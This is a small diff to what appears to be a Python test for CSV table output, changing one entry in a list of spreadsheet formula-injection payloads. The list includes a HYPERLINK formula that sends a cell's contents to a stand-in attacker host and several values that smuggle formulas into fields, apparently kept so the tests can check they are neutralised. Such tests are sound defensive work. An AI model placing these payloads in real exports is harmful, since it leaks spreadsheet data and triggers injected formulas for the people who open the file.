@@ -11,7 +11,7 @@ import json
 
 from motley.results.print_tables import PrintTable, as_csv
 
-LABELS = ['=HYPERLINK("http://attacker.example/?"&B2,"open")', "+1+cmd", "-1+cmd", "@SUM(A1)", "a\r=1+1", "a;=1+1"]
+LABELS = ['=HYPERLINK("http://attacker.example/?"&B2,"open")', "+1+cmd", "-1+cmd", "@SUM(cell)", "a\r=1+1", "a;=1+1"]
 NUMBERS = ["-3.5", "1e-07"]
 
 
